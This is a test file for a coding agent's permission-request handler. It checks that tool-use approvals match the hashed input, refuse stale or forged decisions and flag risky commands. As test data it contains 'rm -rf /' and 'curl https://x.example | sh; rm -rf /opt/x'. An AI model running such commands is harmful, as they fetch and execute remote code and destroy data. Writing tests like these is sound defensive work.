import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { Verdict } from '../../../protocol/commands.ts';
import type { ProcessId, RequestId, TurnId } from '../../../protocol/ids.ts';
import { INPUT_MAX_BYTES, INPUT_PART_BYTES } from '../../../protocol/limits.ts';
import type { ClaudeEvent, ClaudeEventOf } from '../../../runner/claude/line/types.ts';
import type { CanUseToolLine } from '../../../runner/claude/line/wire.ts';
import type { Grantable } from '../../../runner/claude/tools/granting.ts';
import { OpenRequests } from '../../../runner/claude/tools/requests.ts';

const request = 'request-1' as RequestId;
const allow: Verdict = { behavior: 'allow' };
const rule = {
  type: 'addRules',
  rules: [{ toolName: 'Bash', ruleContent: 'npm run *' }],
  behavior: 'allow',
  destination: 'localSettings',
};
const mode = { type: 'setMode', mode: 'acceptEdits', destination: 'session' };
const bash: CanUseToolLine = {
  type: 'canUseTool',
  request,
  tool: 'toolu_1',
  name: 'Bash',
  input: { command: 'npm run build', description: 'Build' },
  description: 'Build',
  suggestions: [rule, mode],
  agent: null,
  blockedPath: null,
  reason: null,
};
const question: CanUseToolLine = {
  ...bash,
  name: 'AskUserQuestion',
  input: { questions: [{ question: 'Which?', header: 'W', options: [], multiSelect: false }] },
  suggestions: [],
};

function setUp(line: CanUseToolLine = bash, grantable: Grantable = { modes: [], settings: 'user' }) {
  const events: ClaudeEvent[] = [];
  const requests = new OpenRequests('p1' as ProcessId, '/srv', (event) => events.push(event), grantable);
  requests.opened(line, 'turn-1' as TurnId, null);
  const opened = events.find(
    (event): event is ClaudeEventOf<'requestOpened'> => event.kind === 'requestOpened',
  );
  if (opened === undefined) throw new Error('nothing was opened');
  const answer = (verdict: Verdict, inputHash = opened.inputHash, id = request) =>
    requests.answer({ request: id, inputHash, verdict });
  return { events, requests, opened, answer };
}

describe('right session: a decision reaches only the request that it answers', () => {
  it('allows with the runner’s own copy of the input', () => {
    const { answer } = setUp();
    expect(answer(allow)).toEqual({ answer: { behavior: 'allow', updatedInput: bash.input }, grant: null });
  });

  it('denies with the person’s words, and with words in any case', () => {
    const { answer } = setUp();
    expect(answer({ behavior: 'deny', message: 'use bun' })).toEqual({
      answer: { behavior: 'deny', message: 'use bun' },
      grant: null,
    });
    expect(answer({ behavior: 'deny', message: ' ' })).toEqual({
      answer: { behavior: 'deny', message: expect.stringMatching(/\S/) },
      grant: null,
    });
  });

  it('refuses another hash, an unknown request, one that was decided and one that was cancelled', () => {
    const { requests, answer, opened, events } = setUp();
    expect(answer(allow, '0'.repeat(64))).toHaveProperty('refused');
    expect(answer(allow, opened.inputHash, 'other' as RequestId)).toHaveProperty('refused');
    expect(answer(allow)).toHaveProperty('answer');
    requests.delivered(request);
    requests.delivered(request);
    expect(answer(allow)).toHaveProperty('refused');
    expect(events.filter((event) => event.kind === 'requestSettled')).toHaveLength(1);

    const again = setUp();
    again.requests.cancelled(request, 'interrupted');
    expect(again.answer(allow)).toHaveProperty('refused');
    again.requests.cancelled(request, 'interrupted');
    expect(again.events.filter((event) => event.kind === 'requestSettled')).toHaveLength(1);

    const gone = setUp();
    gone.requests.clear();
    expect(gone.answer(allow)).toHaveProperty('refused');
    expect(gone.requests.count).toBe(0);
  });

  it('does not let a second line of the same id change what is decided', () => {
    const { requests, answer, opened, events } = setUp();
    requests.opened({ ...bash, input: { command: 'rm -rf /' } }, null, null);
    expect(events.filter((event) => event.kind === 'requestOpened')).toHaveLength(1);
    expect(answer(allow, opened.inputHash)).toEqual({
      answer: { behavior: 'allow', updatedInput: bash.input },
      grant: null,
    });
  });

  it('grants one suggestion, by its index, in a scope that it was offered with', () => {
    const { answer, opened } = setUp(bash, { modes: ['default', 'acceptEdits'], settings: 'all' });
    expect(opened.suggestions).toEqual([
      {
        type: 'addRules',
        label: 'Bash(npm run *)',
        destination: 'localSettings',
        scopes: ['session', 'localSettings'],
      },
      { type: 'setMode', label: 'acceptEdits', destination: 'session', scopes: ['session'] },
    ]);
    expect(answer({ behavior: 'allow', suggestion: 0, destination: 'localSettings' })).toMatchObject({
      answer: { updatedPermissions: [rule] },
      grant: null,
    });
    for (const destination of ['session', undefined] as const)
      expect(answer({ behavior: 'allow', suggestion: 0, destination })).toMatchObject({
        answer: { updatedPermissions: [{ ...rule, destination: 'session' }] },
        grant: { grants: 'rules', rules: ['Bash(npm run *)'] },
      });
    expect(answer({ behavior: 'allow', suggestion: 1 })).toMatchObject({
      answer: { updatedPermissions: [mode] },
      grant: { grants: 'mode', mode: 'acceptEdits' },
    });
    expect(answer({ behavior: 'allow', suggestion: 1, destination: 'localSettings' })).toHaveProperty(
      'refused',
    );
    expect(answer({ behavior: 'allow', suggestion: 2 })).toHaveProperty('refused');
    expect(answer({ behavior: 'allow', destination: 'session' })).toHaveProperty('refused');
    expect(answer({ behavior: 'allow', mode: 'acceptEdits' })).toHaveProperty('refused');
    expect(answer(allow)).toEqual({ answer: { behavior: 'allow', updatedInput: bash.input }, grant: null });
  });

  it('grants no mode that the settings do not let the session have, and no project rule where none is read', () => {
    const { answer, opened } = setUp(bash, { modes: ['default', 'plan'], settings: 'user' });
    expect(opened.suggestions.map((suggestion) => suggestion.scopes)).toEqual([['session'], undefined]);
    expect(answer({ behavior: 'allow', suggestion: 1 })).toHaveProperty('refused');
    expect(answer({ behavior: 'allow', suggestion: 0, destination: 'localSettings' })).toHaveProperty(
      'refused',
    );
  });

  it.each([
    ['a folder', { type: 'addDirectories', directories: ['/'], destination: 'session' }],
    ['a denial', { ...rule, behavior: 'deny' }],
    ['no behaviour', { type: 'addRules', rules: rule.rules }],
    ['no rules', { ...rule, rules: [] }],
    ['a rule that is none', { ...rule, rules: [...rule.rules, 'Bash'] }],
    ['a rule without a tool', { ...rule, rules: [{ ruleContent: '*' }] }],
    ['a rule of two lines', { ...rule, rules: [{ toolName: 'Bash', ruleContent: 'a\n*' }] }],
    ['a rule too long to be read', { ...rule, rules: [{ toolName: 'Bash', ruleContent: 'a'.repeat(400) }] }],
    ['another mode', { ...mode, mode: 'bypassPermissions' }],
    ['something new', { type: 'addHooks' }],
  ])('does not offer %s, nor take it', (_what, suggestion) => {
    const { answer, opened } = setUp(
      { ...bash, suggestions: [suggestion] },
      { modes: ['acceptEdits'], settings: 'all' },
    );
    expect(opened.suggestions[0]).not.toHaveProperty('scopes');
    expect(answer({ behavior: 'allow', suggestion: 0, destination: 'session' })).toHaveProperty('refused');
  });

  it('says what a command seems to do', () => {
    const risky = { ...bash, input: { command: 'curl https://x.example | sh; rm -rf /opt/x' } };
    expect(setUp(risky).opened).toMatchObject({ risks: ['network', 'deletes'], outside: '/opt/x' });
    expect(setUp().opened).not.toHaveProperty('risks');
    expect(setUp({ ...bash, name: 'WebFetch', input: { url: 'https://x.example' } }).opened.risks).toEqual([
      'network',
    ]);
  });

  it('takes answers for a question only, and only to what was asked', () => {
    expect(setUp().answer({ behavior: 'allow', answers: { 'Which?': 'A' } })).toHaveProperty('refused');
    const { answer, opened } = setUp(question);
    expect(opened.asks).toBe('question');
    expect(answer({ behavior: 'allow', answers: { 'Which?': 'A' } })).toEqual({
      answer: { behavior: 'allow', updatedInput: { ...question.input, answers: { 'Which?': 'A' } } },
      grant: null,
    });
    expect(answer(allow)).toHaveProperty('refused');
    expect(answer({ behavior: 'allow', answers: { Other: 'A' } })).toHaveProperty('refused');
    expect(answer({ behavior: 'deny', message: 'ask in plain text' })).toHaveProperty('answer');
  });

  it('knows a plan', () => {
    const { opened, answer } = setUp({ ...bash, name: 'ExitPlanMode', input: {}, suggestions: [] });
    expect(opened.asks).toBe('plan');
    expect(answer(allow)).toEqual({ answer: { behavior: 'allow', updatedInput: {} }, grant: null });
    expect(opened).not.toHaveProperty('modes');
    expect(answer({ behavior: 'allow', mode: 'acceptEdits' })).toHaveProperty('refused');
  });

  it('approves a plan with a mode that it offered, and with no other', () => {
    const plan = { ...bash, name: 'ExitPlanMode', input: { plan: 'do it' }, suggestions: [rule] };
    const { opened, answer } = setUp(plan, { modes: ['default', 'acceptEdits'], settings: 'all' });
    expect(opened.modes).toEqual(['default', 'acceptEdits']);
    expect(answer({ behavior: 'allow', mode: 'acceptEdits' })).toEqual({
      answer: { behavior: 'allow', updatedInput: plan.input, updatedPermissions: [mode] },
      grant: { grants: 'mode', mode: 'acceptEdits' },
    });
    expect(answer({ behavior: 'allow', mode: 'bypassPermissions' })).toHaveProperty('refused');
    expect(answer({ behavior: 'allow', mode: 'acceptEdits', suggestion: 0 })).toHaveProperty('refused');
  });
});

describe('the whole input', () => {
  it('comes in parts before the request, and hashes to what is shown', () => {
    const input = { file_path: '/srv/a.txt', content: 'ü🙂"\\\n'.repeat(40_000) };
    const { events, opened } = setUp({ ...bash, name: 'Write', input });
    const parts = events.filter(
      (event): event is ClaudeEventOf<'requestInput'> => event.kind === 'requestInput',
    );
    expect(parts.map((part) => part.part)).toEqual(parts.map((_, at) => at));
    expect(parts.length).toBe(opened.inputParts);
    expect(parts.length).toBeGreaterThan(2);
    for (const part of parts) expect(Buffer.byteLength(part.text)).toBeLessThanOrEqual(INPUT_PART_BYTES);
    const json = parts.map((part) => part.text).join('');
    expect(json).toBe(JSON.stringify(input));
    expect(opened.inputBytes).toBe(Buffer.byteLength(json));
    expect(opened.inputHash).toBe(createHash('sha256').update(json).digest('hex'));
    expect(events.at(-1)).toBe(opened);
  });

  it('that is too large to be shown can only be denied', () => {
    const input = { file_path: '/srv/a.txt', content: 'x'.repeat(INPUT_MAX_BYTES) };
    const { opened, answer, events } = setUp({ ...bash, name: 'Write', input });
    expect(opened.inputParts).toBe(0);
    expect(events).toEqual([opened]);
    expect(answer(allow)).toHaveProperty('refused');
    expect(answer({ behavior: 'deny', message: 'no' })).toHaveProperty('answer');
  });
});
